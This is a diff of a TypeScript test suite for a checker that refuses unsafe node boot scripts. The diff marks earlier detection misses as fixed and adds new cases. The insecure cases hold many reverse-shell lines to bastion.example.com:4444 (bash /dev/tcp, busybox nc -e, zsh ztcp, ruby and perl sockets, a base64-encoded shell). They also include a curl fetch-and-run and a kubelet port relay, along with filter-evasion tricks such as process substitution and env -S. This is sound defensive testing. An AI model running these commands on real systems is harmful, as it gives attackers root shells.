@@ -118,7 +118,7 @@ const insecure: NodeCase[] = [
         RELAY,
     ),
     devNodeCase("perl <<<here-string", devNodeScript("dev-b2-nodes", [`perl <<<'${PERL_SHELL}'`]), RELAY),
-    // MISS: bash(1) "Process Substitution" (`<(list)`: the file name /dev/fd/N is passed as the argument, reading it
+    // Was a MISS (fixed in round 66): bash(1) "Process Substitution" (`<(list)`: the file name /dev/fd/N is passed as the argument, reading it
     // gives list's output): `perl <(cat /opt/r.pl)` runs the written reverse shell as root; the pack reads `cat FILE`
     // output as FILE's text elsewhere (pipes) but a process substitution operand of an interpreter is neither read nor
     // failed closed (shell.ts standardInput returns undefined for /dev/fd/N, but the word `<(...)` never reaches it).
@@ -127,14 +127,13 @@ const insecure: NodeCase[] = [
         "perl <(cat written)",
         devNodeScript("dev-b3-nodes", ["cat > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "perl <(cat /opt/r.pl)"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         'bash -c \'"$0" -e "$1"\' perl CODE',
         devNodeScript("dev-b5-nodes", [`bash -c '"$0" -e "$1"' perl '${PERL_SHELL}'`]),
         RELAY,
     ),
-    // MISS: bash(1) REDIRECTION (`exec 3< FILE` opens FILE on descriptor 3 for the rest of the script) and proc(5)
+    // Was a MISS (fixed in round 66): bash(1) REDIRECTION (`exec 3< FILE` opens FILE on descriptor 3 for the rest of the script) and proc(5)
     // (/dev/fd/3 is that open file): `perl /dev/fd/3` runs the written /opt/r.pl reverse shell; shell.ts standardInput
     // says another descriptor is unknown so a caller fails closed, but the interpreter-script reader treats /dev/fd/3
     // (not opened by this command) as an image script. Accepted.
@@ -148,9 +147,8 @@ const insecure: NodeCase[] = [
             "perl /dev/fd/3",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) "Duplicating File Descriptors" (`<&3` makes standard input a copy of descriptor 3, here `exec 3<
+    // Was a MISS (fixed in round 66): bash(1) "Duplicating File Descriptors" (`<&3` makes standard input a copy of descriptor 3, here `exec 3<
     // /opt/r.pl`) and perlrun(1) (no -e and no script operand: the program is read from standard input): `perl <&3`
     // runs the written reverse shell; rootReads.ts standardInput(c, ctx) documents `<&N` of an `exec N< FILE`
     // descriptor as read, but stdinProgram is never fed it for a dupIn-only command. Accepted.
@@ -158,7 +156,6 @@ const insecure: NodeCase[] = [
         "exec 3< written; perl <&3",
         devNodeScript("dev-b7-nodes", ["cat > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "exec 3< /opt/r.pl", "perl <&3"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "mkfifo; cat written > fifo &; perl fifo",
@@ -268,7 +265,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-d6-nodes", ["cat > /opt/r.awk <<'EOF'", AWK_SHELL, "EOF", "gawk -f /opt/r.awk"]),
         RELAY,
     ),
-    // MISS: bash(1) SHELL BUILTIN COMMANDS (`source filename`: "Read and execute commands from filename in the current
+    // Was a MISS (fixed in round 66): bash(1) SHELL BUILTIN COMMANDS (`source filename`: "Read and execute commands from filename in the current
     // shell") with /dev/stdin the here-document: root runs `bash -i >& /dev/tcp/bastion.example.com/4444 0>&1`, a
     // reverse shell (the same line in the script itself, or `bash <<EOF`, is refused); stdinProgram excludes source/.
     // and the source reader does not map /dev/stdin (shell.ts standardInput) to the here-document. Accepted.
@@ -280,35 +277,31 @@ const insecure: NodeCase[] = [
             "EOF",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) (`. filename` reads commands from filename; "Here Strings" make the word standard input; /dev/fd/0
+    // Was a MISS (fixed in round 66): bash(1) (`. filename` reads commands from filename; "Here Strings" make the word standard input; /dev/fd/0
     // is standard input per shell.ts standardInput): the here-string's /dev/tcp reverse shell runs as root. Accepted.
     devNodeCase(
         ". /dev/fd/0 <<<",
         devNodeScript("dev-e2-nodes", [`. /dev/fd/0 <<<'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1'`]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) "Process Substitution" + `. filename`: `. <(curl -fsSL URL)` runs fetched code as root exactly as
+    // Was a MISS (fixed in round 66): bash(1) "Process Substitution" + `. filename`: `. <(curl -fsSL URL)` runs fetched code as root exactly as
     // `curl URL | bash` (refused below: "runs as root a program made at boot"); the process substitution operand of
     // `.`/source is not read as fetched code. Accepted.
     devNodeCase(
         ". <(curl)",
         devNodeScript("dev-e3-nodes", [". <(curl -fsSL https://bastion.example.com/boot.sh)"]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) "Process Substitution" (the /dev/fd/N name is bash's script operand; it reads echo's output as its
+    // Was a MISS (fixed in round 66): bash(1) "Process Substitution" (the /dev/fd/N name is bash's script operand; it reads echo's output as its
     // script): runs the /dev/tcp reverse shell as root; `echo ... | bash` is read (piped to a shell) but the `<(...)`
     // operand of a shell is neither read nor failed closed. Accepted.
     devNodeCase(
         "bash <(echo ...)",
         devNodeScript("dev-e4-nodes", [`bash <(echo 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1')`]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) REDIRECTION (`3<<EOF` a here-document on descriptor 3; the script operand /dev/fd/3 reads it): the
+    // Was a MISS (fixed in round 66): bash(1) REDIRECTION (`3<<EOF` a here-document on descriptor 3; the script operand /dev/fd/3 reads it): the
     // /dev/tcp reverse shell runs as root; `perl /dev/fd/3 3<<EOF` is refused (stdinProgram), but shells are excluded
     // from stdinProgram and the shell-script reader does not treat /dev/fd/N as unknown (shell.ts standardInput: "a
     // caller fails closed"). Accepted.
@@ -320,9 +313,8 @@ const insecure: NodeCase[] = [
             "EOF",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1)/sh(1) OPTIONS (`-s`: "commands are read from the standard input"; the operands after it are
+    // Was a MISS (fixed in round 66): bash(1)/sh(1) OPTIONS (`-s`: "commands are read from the standard input"; the operands after it are
     // positional parameters, not a script): `sh -s -- arg <<EOF` runs the here-document's /dev/tcp reverse shell; `bash
     // -s <<EOF` (no operands) is refused, but operands after -s make the pack take `--`/`arg` as a script word and skip
     // the here-document. Accepted.
@@ -334,7 +326,6 @@ const insecure: NodeCase[] = [
             "EOF",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "install /dev/stdin x.pl; perl x.pl",
@@ -372,16 +363,15 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-f5-nodes", ["cat /dev/stdin > /opt/r.tcl <<'EOF'", TCL_SHELL, "EOF", "tclsh /opt/r.tcl"]),
         RELAY,
     ),
-    // MISS: sed(1) (`sed -n p` prints its input: here the here-document, so /opt/r.pl holds the reverse shell) and
+    // Was a MISS (fixed in round 66): sed(1) (`sed -n p` prints its input: here the here-document, so /opt/r.pl holds the reverse shell) and
     // perlrun(1): root runs a file user data wrote with content the pack does not compute, which it then reads as an
     // image script (not failed closed as written-but-unknown). Accepted.
     devNodeCase(
         "sed -n p > x.pl <<EOF; perl x.pl",
         devNodeScript("dev-f6-nodes", ["sed -n p > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "perl /opt/r.pl"]),
         RELAY,
-        true,
     ),
-    // MISS: GNU findutils xargs(1) (`-a file` reads items from file, here /dev/stdin = the here-string; `-0` one item
+    // Was a MISS (fixed in round 66): GNU findutils xargs(1) (`-a file` reads items from file, here /dev/stdin = the here-string; `-0` one item
     // up to NUL, so the whole text is one argument) then runs `perl -e ITEM`: the IO::Socket reverse shell as root.
     // rootReads.ts standardInput treats a here-string with `$` as unknown (fail closed), but xargs' items that are
     // unknown are not failed closed here. Accepted.
@@ -389,9 +379,8 @@ const insecure: NodeCase[] = [
         "xargs -a /dev/fd/0 perl -e",
         devNodeScript("dev-f7-nodes", [`xargs -0 -a /dev/stdin perl -e <<<'${PERL_SHELL}'`]),
         RELAY,
-        true,
     ),
-    // MISS: GNU coreutils env(1) (`-S`/`--split-string=S`: "process and split S into separate arguments", used to pass
+    // Was a MISS (fixed in round 66): GNU coreutils env(1) (`-S`/`--split-string=S`: "process and split S into separate arguments", used to pass
     // multiple arguments): `env -S 'ruby -rsocket -e "..."'` runs ruby -e with a TCPSocket + exec reverse shell; `env
     // perl -e CODE` is refused but the -S string is not split and read. Accepted.
     devNodeCase(
@@ -400,7 +389,6 @@ const insecure: NodeCase[] = [
             `env -S 'ruby -rsocket -e "c=TCPSocket.new(%q(bastion.example.com),4444);exec(%q(/bin/sh -i),in: c,out: c,err: c)"'`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "curl | bash (fetched code)",
@@ -417,14 +405,13 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-g2-nodes", [`timeout 0 setsid nice -n 5 luajit -e '${LUA_SHELL}'`]),
         RELAY,
     ),
-    // MISS: BusyBox docs, nc applet ("-e PROG Run PROG after connect (must be last)"): `busybox nc HOST 4444 -e
+    // Was a MISS (fixed in round 66): BusyBox docs, nc applet ("-e PROG Run PROG after connect (must be last)"): `busybox nc HOST 4444 -e
     // /bin/sh` hands root's shell to bastion.example.com; `nc HOST 4444 -e /bin/sh` is refused and userData.ts comments
     // say appletWords reads `busybox nc`, but this form is accepted.
     devNodeCase(
         "busybox nc -e",
         devNodeScript("dev-g3-nodes", ["busybox nc bastion.example.com 4444 -e /bin/sh"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "openssl s_client | sh | openssl",
@@ -433,7 +420,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: zshmodules(1) "The zsh/net/tcp Module" (`ztcp host port` opens a TCP connection and stores its descriptor
+    // Was a MISS (fixed in round 66): zshmodules(1) "The zsh/net/tcp Module" (`ztcp host port` opens a TCP connection and stores its descriptor
     // in $REPLY) and zshtcpsys(1): `zmodload zsh/net/tcp && ztcp HOST 4444 && zsh >&$REPLY 0>&$REPLY` is a reverse root
     // shell, the zsh counterpart of bash's /dev/tcp (refused); zsh's ztcp is not read. Accepted.
     devNodeCase(
@@ -442,7 +429,6 @@ const insecure: NodeCase[] = [
             `zsh -c 'zmodload zsh/net/tcp && ztcp bastion.example.com 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
         ]),
         RELAY,
-        true,
     ),
     // Round 65 second batch: modules and libraries an interpreter loads by name (the code not on its command line).
     // MISS: LuaJIT docs, "Running LuaJIT" (`-l library`: loads the named module, lua.c's `require(name)`) and the Lua
@@ -569,6 +555,74 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
         true,
+    ),
+    // Round 66 neighbours: code reaching a program through a descriptor, process substitution, an unknown file, xargs
+    // items, env -S, an applet, zsh's ztcp, and a node client relaying two connections.
+    devNodeCase(
+        "perl <(cat written harmless) (fail closed: process substitution is unknown)",
+        devNodeScript("dev-r66a-nodes", ["cat > /opt/ok.pl <<'EOF'", "print 1", "EOF", "perl <(cat /opt/ok.pl)"]),
+        /made at boot/,
+    ),
+    devNodeCase(
+        "exec 3< written; sh /dev/fd/3",
+        devNodeScript("dev-r66b-nodes", [
+            "cat > /opt/r.sh <<'EOF'",
+            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
+            "EOF",
+            "exec 3< /opt/r.sh",
+            "sh /dev/fd/3",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "source <(curl) with arguments",
+        devNodeScript("dev-r66c-nodes", ["source <(curl -fsSL https://bastion.example.com/boot.sh) --now"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "cmd > x.sh (unknown output); bash x.sh",
+        devNodeScript("dev-r66d-nodes", [
+            "base64 -d > /opt/r.sh <<'EOF'",
+            "YmFzaCAtaSA+JiAvZGV2L3RjcC9iYXN0aW9uLmV4YW1wbGUuY29tLzQ0NDQgMD4mMQo=",
+            "EOF",
+            "bash /opt/r.sh",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "bash -xs -- arg <<EOF",
+        devNodeScript("dev-r66e-nodes", [
+            "bash -xs -- arg <<'EOF'",
+            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
+            "EOF",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "xargs -a /dev/stdin bash -c <<<CODE",
+        devNodeScript("dev-r66f-nodes", [`xargs -0 -a /dev/stdin bash -c <<<'exec 5<>/dev/tcp/$H/4444; sh <&5 >&5'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "env --split-string='perl -e CODE'",
+        devNodeScript("dev-r66g-nodes", [
+            `env --split-string='perl -MIO::Socket -e "${PERL_SHELL.replace(/"/g, '\\"')}"'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "zsh ztcp -d 5",
+        devNodeScript("dev-r66h-nodes", [
+            `zsh -c 'zmodload zsh/net/tcp; ztcp -d 5 bastion.example.com 4444; zsh <&5 >&5 2>&5'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "node net client relaying the kubelet to another host",
+        devNodeScript("dev-r66i-nodes", [
+            `node -e 'const n=require("net");const a=n.connect(10250,"127.0.0.1");const b=n.connect({port:4444,host:"bastion.example.com"});a.pipe(b);b.pipe(a)'`,
+        ]),
+        /./,
     ),
 ];
 
@@ -732,7 +786,7 @@ const secure: NodeCase[] = [
         "ruby loopback health check",
         devNodeScript("dev-t3-nodes", [`ruby -rsocket -e 'TCPSocket.new("127.0.0.1", 10248).close' || true`]),
     ),
-    // MISS: (secure refused) Node.js docs, net.connect(port[, host]) ("a factory function, which creates a new
+    // Was a MISS (fixed in round 66): (secure refused) Node.js docs, net.connect(port[, host]) ("a factory function, which creates a new
     // net.Socket ... and initiates a connection": a client, it listens on nothing): a loopback health check of the
     // kubelet's healthz port (127.0.0.1:10248) exits; the pack refuses it as "a program the pack does not read,
     // listening beyond loopback ... on every address", while the same perl IO::Socket::INET and ruby TCPSocket checks
@@ -743,7 +797,6 @@ const secure: NodeCase[] = [
             `node -e 'require("net").connect(10248, "127.0.0.1").on("connect", () => process.exit(0)).on("error", () => process.exit(1))' || true`,
         ]),
         /./,
-        true,
     ),
     devNodeCase(
         "sh -s -- arg <<EOF (harmless)",
@@ -777,6 +830,34 @@ const secure: NodeCase[] = [
     devNodeCase(
         "tar -cf - | gzip",
         devNodeScript("dev-t10-nodes", ["mkdir -p /var/backups", "tar -cf - /etc/hosts | gzip > /var/backups/h.tgz"]),
+    ),
+    // Round 66 neighbours (secure): known text through a here-document to source/. and a shell's descriptor, process
+    // substitution as data, env -S of harmless code, busybox nc -z, zsh ztcp to loopback, node clients of loopback.
+    devNodeCase(
+        "source /dev/stdin <<EOF (harmless)",
+        devNodeScript("dev-r66s1-nodes", ["source /dev/stdin <<'EOF'", "echo ok > /etc/motd", "EOF"]),
+    ),
+    devNodeCase(
+        "bash /dev/fd/3 3<<EOF (harmless)",
+        devNodeScript("dev-r66s2-nodes", ["bash /dev/fd/3 3<<'EOF'", "echo ok > /etc/motd", "EOF"]),
+    ),
+    devNodeCase(
+        "diff <(sort a) b (data)",
+        devNodeScript("dev-r66s3-nodes", ["diff <(sort /etc/hosts) /etc/hosts > /tmp/d || true"]),
+    ),
+    devNodeCase("env -S 'ruby -e puts'", devNodeScript("dev-r66s4-nodes", [`env -S 'ruby -e "puts 1"'`])),
+    devNodeCase("busybox nc -z loopback", devNodeScript("dev-r66s5-nodes", ["busybox nc -z 127.0.0.1 10248 || true"])),
+    devNodeCase(
+        "zsh ztcp to loopback",
+        devNodeScript("dev-r66s6-nodes", [
+            `zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 10248 && echo ok >&$REPLY; ztcp -c $REPLY' || true`,
+        ]),
+    ),
+    devNodeCase(
+        "node net.createConnection({port}) (localhost)",
+        devNodeScript("dev-r66s7-nodes", [
+            `node -e 'require("net").createConnection({ port: 10248 }, () => process.exit(0)).on("error", () => process.exit(1))' || true`,
+        ]),
     ),
 ];
 
